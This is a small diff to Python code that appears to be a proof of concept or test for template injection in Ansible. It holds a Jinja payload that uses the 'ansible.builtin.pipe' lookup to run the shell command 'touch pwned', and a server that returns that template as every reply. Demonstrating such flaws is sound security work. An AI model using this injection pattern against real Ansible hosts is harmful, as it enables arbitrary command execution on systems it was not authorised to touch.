@@ -32,7 +32,10 @@ command = import_module("ansible.cli." + sys.argv[3])
 main(["ansible-" + sys.argv[3], *sys.argv[4:]]).run()
 """
 """Runs a command of Ansible: ROOT, port in place of 25, command, its arguments."""
+
 TEMPLATE = "{{ lookup('ansible.builtin.pipe', 'touch pwned') }}"
+
+
 async def template(peer: Peer) -> None:
     """A server whose every word is a template."""
     text = TEMPLATE.encode()
